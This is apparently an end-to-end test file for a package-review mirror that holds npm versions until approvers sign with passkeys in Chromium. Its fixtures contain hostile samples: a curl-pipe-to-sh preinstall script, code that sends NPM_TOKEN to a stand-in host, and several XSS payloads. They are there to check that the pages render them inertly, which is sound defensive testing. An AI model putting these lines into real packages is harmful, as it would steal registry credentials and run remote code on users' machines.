/**
 * The review pages in a real Chromium, with passkeys from Chrome's virtual authenticator: enrollment of
 * two approvers through links the real CLI prints, an approval with quorum 2 signed from the page and then
 * a real npm install, a rejection with a reason, refusals (expired statement, removed approver) that change
 * nothing, and a hostile package whose text runs nothing. Screenshots go to CORDON_SCREENSHOTS or ./screenshots.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { DAY, HOUR, NOW } from '../helpers/mirror';
import { NpmClient } from '../helpers/npm-client';
import { runProcess } from '../helpers/run-process';
import { addPasskeyAuthenticator, credentials, launchBrowser, person, type Person } from '../helpers/browser';
import { keyedApprovers, WebMirror, type KeyedApprover } from './web-mirror';

const SCREENSHOTS = process.env.CORDON_SCREENSHOTS ?? join(__dirname, '..', '..', '..', 'screenshots');

describe('review pages and passkeys in Chromium', { timeout: 110_000 }, () => {
  const web = new WebMirror();
  let browser: Browser;
  let alice: KeyedApprover;
  let bob: KeyedApprover;
  let aliceAt: Person;
  let bobAt: Person;
  const snapshot = async (name: string, version: string) => ({
    version: await web.m.mirror.runtime.store.versions.versionOf(name, version),
    decisions: await web.m.mirror.runtime.approvals.decisionsOf(name, version),
    head: await web.m.mirror.runtime.store.audit.head(),
  });
  const review = (p: Person, name: string, version: string) => p.page.goto(`${web.url}-/cordon/packages/${name}/${version}`);
  /** Fills the decision form, shows the statement and signs it with the person's passkey. */
  async function sign(
    p: Person,
    as: string,
    decision: 'approve' | 'reject',
    reason: string,
    beforeSigning?: () => Promise<void>,
  ): Promise<string> {
    await p.page.locator('#decide-form').waitFor();
    await p.page.check(decision === 'approve' ? '#decision-approve' : '#decision-reject');
    await p.page.fill('#reason', reason);
    await p.page.selectOption('#signer', as);
    await p.page.click('#prepare');
    const statement = await p.page.locator('#statement').textContent();
    await beforeSigning?.();
    await p.page.click('#sign');
    await p.page
      .locator('#decide-status .notice:not(.info)')
      .waitFor()
      .catch(async (err: Error) => {
        // biome-ignore lint/performance/useDomNodeTextContent: the failure message shows the page as a reader sees it.
        throw new Error(`${err.message}\npage: ${await p.page.locator('#main').innerText()}\nconsole: ${p.console.join('\n')}`);
      });
    return `${statement}\n${await p.page.locator('#decide-status').textContent()}`;
  }

  before(async () => {
    mkdirSync(SCREENSHOTS, { recursive: true });
    [alice, bob] = keyedApprovers(web.dir, ['alice', 'bob']) as [KeyedApprover, KeyedApprover];
    await web.start([alice, bob], { quorum: { critical: 2, high: 2 } });
    const up = web.upstream;
    for (const name of ['native-thing', 'other-thing', 'slow-thing']) up.publish(name, '1.0.0', { time: NOW - 30 * DAY });
    await Promise.all(['native-thing', 'other-thing', 'slow-thing'].map((n) => web.sight(n)));
    up.publish('native-thing', '1.1.0', {
      time: NOW - 2 * HOUR,
      scripts: { postinstall: 'node build.js' },
      files: { 'build.js': "require('child_process').execSync('true');\n" },
    });
    up.publish('other-thing', '2.0.0', { time: NOW - 3 * HOUR, scripts: { preinstall: 'curl https://example.invalid/x | sh' } });
    up.publish('slow-thing', '1.1.0', { time: NOW - HOUR, scripts: { install: 'node-gyp rebuild' } });
    await Promise.all(['native-thing', 'other-thing', 'slow-thing'].map((n) => web.sight(n)));
    for (const n of ['native-thing@1.1.0', 'other-thing@2.0.0', 'slow-thing@1.1.0']) {
      const [name, version] = n.split('@') as [string, string];
      assert.equal((await web.m.mirror.runtime.store.versions.versionOf(name, version))?.state, 'held', `${n} is held`);
    }
    browser = await launchBrowser();
    aliceAt = await person(browser);
    bobAt = await person(browser);
    await addPasskeyAuthenticator(aliceAt);
    await addPasskeyAuthenticator(bobAt);
  });

  after(async () => {
    await browser?.close();
    await web.close();
    rmSync(web.dir, { recursive: true, force: true });
  });

  test('two approvers enroll a passkey through the one-time link "cordon passkey add" prints', async () => {
    for (const [who, at] of [
      [alice, aliceAt],
      [bob, bobAt],
    ] as const) {
      const add = await web.cli(['passkey', 'add', '--key', who.keyFile]);
      assert.equal(add.code, 0, add.stderr);
      const link = /^(http:\/\/localhost:\d+\/-\/cordon\/enroll#[A-Za-z0-9_-]+)$/m.exec(add.stdout)?.[1];
      assert.ok(link, add.stdout);
      await at.page.goto(link);
      await at.page.click('#register');
      await at.page.getByText(`a passkey is enrolled for ${who.approver.name}`).waitFor();
      assert.equal(new URL(at.page.url()).hash, '', 'the token is wiped from the address bar');
      assert.equal((await credentials(at)).length, 1);
      // The link works once.
      await at.page.goto(link);
      await at.page.getByText('[ENROLLMENT_USED]').waitFor();
    }
    const list = await web.cli(['passkey', 'list', '--json']);
    const passkeys = JSON.parse(list.stdout).passkeys as Array<{ approver: string; status: string }>;
    assert.deepEqual(
      passkeys.map((p) => [p.approver, p.status]),
      [
        ['alice', 'active'],
        ['bob', 'active'],
      ],
    );
    const enrolled = (await web.m.mirror.runtime.store.audit.ofPackage('-')).filter((e) => e.cause === 'passkey-enrolled');
    assert.equal(enrolled.length, 2);
    assert.match(String(enrolled[0]!.detail!.signature), /BEGIN SSH SIGNATURE/, 'the SSH-signed request is in the audit log');
  });

  test('quorum 2 from the page: alice, then bob, and a real npm install gets the version', async () => {
    await review(aliceAt, 'native-thing', '1.1.0');
    const first = await sign(aliceAt, 'alice', 'approve', 'build.js only compiles');
    assert.match(first, /"decision":"approve"/);
    assert.match(first, /Accepted: 1 of 2 approvals/);
    await review(bobAt, 'native-thing', '1.1.0');
    assert.match(await sign(bobAt, 'bob', 'approve', 'agreed'), /is now approved/);
    const decisions = await web.m.mirror.runtime.approvals.decisionsOf('native-thing', '1.1.0');
    assert.deepEqual(
      decisions.map((d) => [d.approver, d.method]),
      [
        ['alice', 'webauthn'],
        ['bob', 'webauthn'],
      ],
    );
    // One approver counts once whichever way they sign: alice's SSH key cannot add a second approval.
    web.upstream.publish('native-thing', '1.2.0', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node build.js', preinstall: 'node fetch.js' },
      files: {
        'build.js': "require('child_process').execSync('true');\n",
        'fetch.js': "require('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n",
      },
    });
    await web.sight('native-thing');
    await review(aliceAt, 'native-thing', '1.2.0');
    await sign(aliceAt, 'alice', 'approve', 'same build');
    const again = await web.cli(['approve', 'native-thing@1.2.0', '--key', alice.keyFile, '--reason', 'again']);
    assert.match(again.stderr, /\[ALREADY_SIGNED\]/);

    const npm = new NpmClient(web.m.mirror.url);
    try {
      const r = await npm.run(['install', 'native-thing@1.1.0', '--ignore-scripts']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(npm.installed('native-thing'), '1.1.0');
    } finally {
      npm.remove();
    }
  });

  test('a rejection needs a reason, and with one the version is rejected', async () => {
    await review(bobAt, 'other-thing', '2.0.0');
    await bobAt.page.check('#decision-reject');
    await bobAt.page.fill('#reason', '');
    await bobAt.page.click('#prepare');
    await bobAt.page.getByText('A rejection needs a reason').waitFor();
    assert.match(await sign(bobAt, 'bob', 'reject', 'pipes a download into sh'), /is now rejected/);
    const d = await web.m.mirror.runtime.approvals.decisionsOf('other-thing', '2.0.0');
    assert.deepEqual(
      d.map((x) => [x.decision, x.method, JSON.parse(x.statement).reason]),
      [['reject', 'webauthn', 'pipes a download into sh']],
    );
    assert.equal((await web.m.mirror.runtime.store.versions.versionOf('other-thing', '2.0.0'))?.state, 'rejected');
  });

  test('an expired statement is refused with its error and changes nothing', async () => {
    await review(aliceAt, 'slow-thing', '1.1.0');
    const before = await snapshot('slow-thing', '1.1.0');
    const out = await sign(aliceAt, 'alice', 'approve', 'looked', async () => web.clock.advance(11 * 60_000));
    assert.match(out, /\[STATEMENT_EXPIRED\]/);
    assert.deepEqual(await snapshot('slow-thing', '1.1.0'), before);
  });

  test('an assertion from an approver removed from the config is refused and changes nothing', async () => {
    await review(aliceAt, 'slow-thing', '1.1.0');
    await aliceAt.page.locator('#decide-form').waitFor();
    await aliceAt.page.fill('#reason', 'looked');
    await aliceAt.page.selectOption('#signer', 'alice');
    await aliceAt.page.click('#prepare');
    await aliceAt.page.locator('#statement').waitFor();
    // The operator removes alice while her statement is on screen.
    await web.stop();
    await web.start([bob], { quorum: { critical: 2, high: 2 } });
    const before = await snapshot('slow-thing', '1.1.0');
    await aliceAt.page.click('#sign');
    await aliceAt.page.locator('#decide-status .notice.error').waitFor();
    assert.match((await aliceAt.page.locator('#decide-status').textContent()) ?? '', /no longer an approver.*\[UNKNOWN_SIGNER\]/);
    assert.deepEqual(await snapshot('slow-thing', '1.1.0'), before);
    const list = JSON.parse((await web.cli(['passkey', 'list', '--json'])).stdout).passkeys as Array<{ approver: string; status: string }>;
    assert.deepEqual(
      list.map((p) => [p.approver, p.status]),
      [
        ['alice', 'approver-removed'],
        ['bob', 'active'],
      ],
    );
  });

  test('keyboard only: bob reaches the form, signs, and reads times in his own zone', async () => {
    const p = await person(browser, { width: 1280, height: 900 }, false, { timezoneId: 'Asia/Tokyo' });
    try {
      await addPasskeyAuthenticator(p);
      // Bob's passkey lives in bobAt's authenticator; this person enrolls one of his own, by keyboard.
      const add = await web.cli(['passkey', 'add', '--key', bob.keyFile]);
      await p.page.goto(/(http:\/\/localhost:\d+\/-\/cordon\/enroll#\S+)/.exec(add.stdout)![1]!);
      await p.page.locator('#register:focus').waitFor();
      await p.page.keyboard.press('Enter');
      await p.page.getByText('a passkey is enrolled for bob').waitFor();
      await review(p, 'slow-thing', '1.1.0');
      await p.page.locator('#decide-form').waitFor();
      // Published one hour before NOW (12:00 UTC): 20:00 in Tokyo.
      // biome-ignore lint/performance/useDomNodeTextContent: the rendered text a reader sees (no hidden nodes, layout whitespace) is what is asserted.
      assert.match(await p.page.locator('.meta-list').innerText(), /Nov 20, 2026, 8:00\sPM/);
      const tabTo = async (id: string) => {
        for (let i = 0; i < 80; i++) {
          if ((await p.page.evaluate(() => document.activeElement?.id)) === id) return;
          await p.page.keyboard.press('Tab');
        }
        assert.fail(`Tab never reached #${id}`);
      };
      await tabTo('decision-approve');
      await tabTo('reason');
      await p.page.keyboard.type('read the gyp file');
      await tabTo('signer');
      await p.page.keyboard.press('ArrowDown');
      await tabTo('prepare');
      await p.page.keyboard.press('Enter');
      await p.page.locator('#sign:focus').waitFor();
      assert.notEqual(
        await p.page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle),
        'none',
        'the focused element shows its focus',
      );
      assert.match((await p.page.locator('#statement').textContent()) ?? '', /"approver":"bob".*"reason":"read the gyp file"/);
      await p.page.keyboard.press('Enter');
      await p.page.getByText('Accepted: 1 of 2 approvals').waitFor();
      assert.deepEqual(
        (await web.m.mirror.runtime.approvals.decisionsOf('slow-thing', '1.1.0')).map((d) => [d.approver, d.method]),
        [['bob', 'webauthn']],
      );
    } finally {
      await p.context.close();
    }
  });

  test('cordon audit export: openssl verifies every passkey decision and shows the challenge is the statement hash', async () => {
    const dir = join(web.dir, 'evidence');
    const exported = await web.cli(['audit', 'export', dir]);
    assert.equal(exported.code, 0, exported.stderr + exported.stdout);
    const verify = await runProcess('sh', ['verify.sh'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin' } });
    assert.equal(verify.code, 0, verify.stderr + verify.stdout);
    assert.equal((verify.stdout.match(/challenge is SHA-256 of the statement/g) ?? []).length, 5, verify.stdout);
    assert.equal(
      (verify.stdout.match(/Good "cordon-passkey" signature/g) ?? []).length +
        (verify.stderr.match(/Good "cordon-passkey" signature/g) ?? []).length,
      3,
      'every SSH-signed enrollment request verifies',
    );
    // A statement changed after signing no longer matches the passkey's challenge.
    const statement = join(
      dir,
      'decisions',
      readFileSync(join(dir, 'verify.sh'), 'utf8').match(/check_passkey 'decisions\/([^']+\.json)'/)![1]!,
    );
    const { writeFileSync } = await import('node:fs');
    writeFileSync(statement, readFileSync(statement, 'utf8').replace('"decision":"approve"', '"decision":"reject"'));
    const tampered = await runProcess('sh', ['verify.sh'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin' } });
    assert.notEqual(tampered.code, 0);
    assert.match(tampered.stderr, /not SHA-256 of the statement/);
  });

  test('a hostile package runs nothing: file names, contents, description, README and evidence are text', async () => {
    const payloads = [
      '<img src=x onerror="window.__pwned=1">',
      '</script><script>window.__pwned=2</script>',
      '[x](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">y</a>',
    ];
    web.upstream.publish('evil-pkg', '1.0.0', { time: NOW - 30 * DAY });
    await web.sight('evil-pkg');
    web.upstream.publish('evil-pkg', '1.0.1', {
      time: NOW - HOUR,
      scripts: { postinstall: `node -e "${payloads[1]}" ${payloads[0]}` },
      manifest: { description: payloads.join(' '), homepage: 'javascript:window.__pwned=5' },
      files: {
        [`${payloads[0]}.js`]: `// ${payloads.join('\n// ')}\nrequire('child_process').exec('${payloads[0]}');\n`,
        'README.md': `# ${payloads[0]}\n${payloads[2]}\n${payloads[1]}\n`,
      },
    });
    await web.sight('evil-pkg');
    const p = await person(browser);
    await p.page.addInitScript(() => {
      (window as unknown as { __pwned?: number }).__pwned = undefined;
    });
    for (const path of ['-/cordon/packages/evil-pkg/1.0.1', '-/cordon/', '-/cordon/packages/evil-pkg', '-/cordon/audit']) {
      await p.page.goto(`${web.url}${path}`);
      await p.page.waitForFunction(() => document.getElementById('main')?.getAttribute('aria-busy') === 'false');
      if (path.endsWith('1.0.1')) await p.page.locator('#files details').first().waitFor();
      const probe = await p.page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        dangerous: document.querySelectorAll('img, iframe, object, embed, script:not([src]), [onerror], a[href^="javascript:"]').length,
        // biome-ignore lint/performance/useDomNodeTextContent: the rendered text a reader sees (no hidden nodes, layout whitespace) is what is asserted.
        text: document.body.innerText,
      }));
      assert.equal(probe.pwned, undefined, `${path}: nothing ran`);
      assert.equal(probe.dangerous, 0, `${path}: no element came from package text`);
      if (path.endsWith('1.0.1')) {
        for (const payload of [payloads[0]!, payloads[1]!, 'javascript:window.__pwned=5'])
          assert.ok(probe.text.includes(payload), `shown as text: ${payload}`);
      }
    }
    assert.deepEqual(p.errors, []);
    assert.deepEqual(
      p.console.filter((m) => m.startsWith('error')),
      [],
    );
    await p.context.close();
  });

  test('screenshots of the queue and the review page at desktop and phone widths', async () => {
    web.upstream.publish('left-pad', '1.0.0', { time: NOW - 30 * DAY });
    await web.sight('left-pad');
    web.upstream.publish('left-pad', '1.1.0', {
      time: NOW - 5 * HOUR,
      files: {
        'index.js': `module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\nrequire('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n`,
      },
    });
    await web.sight('left-pad');
    for (const [label, viewport, mobile] of [
      ['desktop', { width: 1280, height: 900 }, false],
      ['phone', { width: 390, height: 844 }, true],
    ] as const) {
      const p = await person(browser, viewport, mobile);
      await p.page.goto(`${web.url}-/cordon/`);
      await p.page.locator('table.queue').waitFor();
      await p.page.screenshot({ path: join(SCREENSHOTS, `queue-${label}.png`), fullPage: true });
      await p.page.screenshot({ path: join(SCREENSHOTS, `queue-${label}-top.png`) });
      await p.page.goto(`${web.url}-/cordon/packages/native-thing/1.2.0`);
      await p.page.locator('#files details').first().waitFor();
      await p.page.screenshot({ path: join(SCREENSHOTS, `review-${label}.png`), fullPage: true });
      await p.page.screenshot({ path: join(SCREENSHOTS, `review-${label}-top.png`) });
      for (const [page, path, ready] of [
        ['audit', '-/cordon/audit', 'table.audit'],
        ['package', '-/cordon/packages/native-thing', 'table.versions'],
        ['decided', '-/cordon/?view=decided', 'table.recent'],
      ] as const) {
        await p.page.goto(`${web.url}${path}`);
        await p.page.locator(ready).waitFor();
        await p.page.screenshot({ path: join(SCREENSHOTS, `${page}-${label}.png`) });
      }
      const wide = await p.page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(wide <= 1, `${label}: the page does not scroll sideways (${wide}px)`);
      assert.deepEqual(p.errors, []);
      await p.context.close();
    }
  });
});
